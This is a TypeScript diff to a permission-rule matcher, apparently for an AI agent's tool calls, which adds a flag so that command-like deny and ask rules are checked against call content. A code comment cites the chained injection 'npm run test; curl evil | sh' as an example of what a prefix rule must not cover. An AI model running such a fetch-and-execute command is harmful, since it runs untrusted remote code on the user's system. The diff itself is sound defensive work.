@@ -32,6 +32,12 @@ export interface RuleSpecifier {
   readonly matchesPath: (absolutePath: string, workspaceRoot: string) => boolean;
   /** Tests a call's permission content. */
   readonly matchesContent: (content: string) => boolean;
+  /**
+   * Reads as a command (`rm:*`, `git push --force`, `make`, `curl*`: a prefix pattern, one with
+   * blanks, or one without `/` that does not start with `.` or `~`). A deny or ask rule with such
+   * a specifier is matched against the call's content even when the tool has paths.
+   */
+  readonly looksLikeContent: boolean;
   /** No glob character at all (`.env`, `deploy/id_ed25519`): the rule names one path. */
   readonly isLiteral: boolean;
   /**
@@ -108,6 +114,8 @@ function compileSpecifier(text: string, home: string): RuleSpecifier {
       return glob(absolutePath.slice(workspaceRoot.length + 1));
     },
     matchesContent: compileContentPattern(text),
+    looksLikeContent:
+      readsAsCommand(text) || !(text.includes('/') || text.startsWith('.') || text.startsWith('~')),
     isLiteral: !GLOB_CHARACTER.test(text) && !text.startsWith('!'),
     isCatchAll: anchor.glob.startsWith('!') || !NAMING_CHARACTER.test(anchor.glob),
   };
@@ -148,8 +156,8 @@ function globAnchor(text: string): { kind: 'workspace' | 'absolute' | 'home'; gl
 /**
  * Content patterns. A shell-style prefix rule must not be widened by chaining: `npm run test:*`
  * does not cover `npm run test; curl evil | sh`, so a prefix or wildcard rule matches only content
- * without shell control operators. (Deny rules check each chained segment separately; see
- * {@link contentSegments}.)
+ * without shell control operators. (Deny and ask rules check each chained segment separately,
+ * normalised; see {@link contentSegments} and `commandCandidates`.)
  */
 function compileContentPattern(text: string): (content: string) => boolean {
   if (text.endsWith(':*')) {
